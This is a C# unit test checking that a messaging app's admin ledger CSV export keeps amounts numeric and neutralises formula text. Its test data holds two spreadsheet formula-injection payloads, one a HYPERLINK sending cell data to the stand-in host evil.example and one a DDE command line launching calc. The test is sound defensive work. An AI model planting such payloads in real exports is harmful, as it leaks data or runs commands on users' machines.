using System.Net;
using TalkNTalk.Core.Wallets;
using TalkNTalk.Dashboard.Tests.Infrastructure;

namespace TalkNTalk.Dashboard.Tests.Wallets;

/// <summary>The ledger CSV: amounts stay numbers a spreadsheet can add up; text that could run as a formula does not.</summary>
public sealed class LedgerExportTests
{
    [Fact]
    public async Task Negative_amounts_stay_numbers_and_a_formula_in_a_note_is_neutralised()
    {
        using var app = new TestApp();
        var org = await app.OrganisationIdAsync();
        await app.Service<WalletService>().TopUpAsync(org, 25m, "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0");
        await app.Service<TalkNTalk.Core.Campaigns.CampaignService>().SendBulkAsync(new TalkNTalk.Core.Campaigns.SendRequest
        {
            OrganisationId = org, Message = "Habari", Numbers = ["254712345678"],
        });
        var browser = app.Browser();
        await TestApp.SignInAsync(browser, TestApp.AdminEmail, TestApp.AdminPassword);

        var response = await browser.GetAsync("/admin/wallet/ledger.csv");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var lines = (await response.Content.ReadAsStringAsync()).TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Contains(lines, l => l.Contains(",TopUp,25.00,") && l.EndsWith(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",\"'=cmd|' /C calc'!A0\""));
        Assert.Contains(lines, l => l.Contains(",Reserve,-1.00,"));
    }
}
